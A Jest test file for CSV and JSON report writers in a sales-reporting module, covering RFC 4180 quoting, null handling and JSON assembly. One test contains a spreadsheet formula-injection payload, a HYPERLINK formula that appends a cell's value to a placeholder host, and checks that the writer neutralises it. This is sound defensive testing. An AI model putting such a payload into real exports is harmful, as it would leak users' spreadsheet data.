import { parse } from 'csv-parse/sync';
import { ReportTotalsAccumulator } from './report-totals';
import { CsvReportWriter, JsonReportWriter } from './report-writers';
import { reportRow } from './testing/report-row.fixture';
import { REPORT_COLUMNS } from './transaction-detail.row';

const QUERY = { shopCode: null, from: '2026-03-01 00:00:00.000', to: '2026-03-08 00:00:00.000' };

describe(CsvReportWriter.name, () => {
  const writer = new CsvReportWriter();

  it('should start with a header row of the column names and end records with CRLF', () => {
    expect(writer.open()).toBe(`${REPORT_COLUMNS.join(',')}\r\n`);
    expect(writer.rows([reportRow()])).toMatch(/^SHOP1,R1,1,R1-000001,SALE,.*,1\.21\r\n$/);
  });

  it('should quote fields with commas, quotes, CR or LF, doubling quotes (RFC 4180)', () => {
    const text = writer.rows([
      reportRow({ description: 'Pan, "integral"' }),
      reportRow({ description: 'two\nlines' }),
      reportRow({ description: 'carriage\rreturn' }),
      reportRow({ description: 'plain' }),
    ]);
    const fields = text.split('\r\n').map((record) => record.split(',SALE,')[0]);
    expect(text).toContain(',"Pan, ""integral""",');
    expect(text).toContain(',"two\nlines",');
    expect(text).toContain(',"carriage\rreturn",');
    expect(text).toContain(',plain,');
    expect(fields).toHaveLength(5);
  });

  it('should write null as an empty field and keep UTF-8 text as it is', () => {
    const text = writer.rows([
      reportRow({ customerCode: null, description: 'Café con leche ñ €' }),
    ]);
    expect(text).toContain(',E1,,EUR,');
    expect(text).toContain(',Café con leche ñ €,');
  });

  it('should neutralise formulas in text columns and keep negative amounts as numbers', () => {
    const text = writer.rows([
      reportRow({
        description: '=HYPERLINK("http://x.invalid/?"&A2,"Click")',
        customerCode: '+31600000000',
        itemCode: '@ITEM',
        employeeCode: '-E1',
        quantity: '-1.0000',
        net: '-1.00',
        tax: '-0.21',
        gross: '-1.21',
      }),
    ]);
    const [record]: string[][] = parse(text);
    const cell = (column: (typeof REPORT_COLUMNS)[number]) =>
      record[REPORT_COLUMNS.indexOf(column)];
    expect(cell('description')).toBe('\'=HYPERLINK("http://x.invalid/?"&A2,"Click")');
    expect(cell('customerCode')).toBe("'+31600000000");
    expect(cell('itemCode')).toBe("'@ITEM");
    expect(cell('employeeCode')).toBe("'-E1");
    expect([cell('quantity'), cell('net'), cell('tax'), cell('gross')]).toEqual([
      '-1.0000',
      '-1.00',
      '-0.21',
      '-1.21',
    ]);
  });

  it('should parse back with a CSV parser to the same values', () => {
    const rows = [
      reportRow({ description: 'a,b "c"\r\nd', customerCode: 'C1' }),
      reportRow({ saleId: '2', lineNo: 2, paymentMethods: 'CARD+CASH' }),
    ];
    const parsed: Record<string, string>[] = parse(writer.open() + writer.rows(rows), {
      columns: true,
    });
    expect(parsed).toEqual(
      rows.map((row) =>
        Object.fromEntries(REPORT_COLUMNS.map((c) => [c, row[c] === null ? '' : String(row[c])])),
      ),
    );
  });
});

describe(JsonReportWriter.name, () => {
  it('should write one JSON document from its pieces, rows separated across chunks', () => {
    const writer = new JsonReportWriter(QUERY);
    const totals = new ReportTotalsAccumulator();
    const chunks = [[reportRow({ saleId: '1' })], [], [reportRow({ saleId: '2' })]];
    let text = writer.open();
    for (const rows of chunks) {
      rows.forEach((row) => totals.add(row));
      text += writer.rows(rows);
    }
    text += writer.close(totals.result());
    const body = JSON.parse(text);
    expect(body.from).toBe('2026-03-01T00:00:00.000');
    expect(body.to).toBe('2026-03-08T00:00:00.000');
    expect(body.rows.map((r: { saleId: string }) => r.saleId)).toEqual(['1', '2']);
    expect(Object.keys(body.rows[0])).toEqual(REPORT_COLUMNS);
    expect(body.totals).toMatchObject({ sales: 2, lines: 2 });
  });

  it('should write an empty report as valid JSON', () => {
    const writer = new JsonReportWriter(QUERY);
    const text = writer.open() + writer.close(new ReportTotalsAccumulator().result());
    expect(JSON.parse(text)).toEqual({
      from: '2026-03-01T00:00:00.000',
      to: '2026-03-08T00:00:00.000',
      rows: [],
      totals: { sales: 0, lines: 0, voidedSales: 0, voidedLines: 0, byCurrency: [] },
    });
  });
});
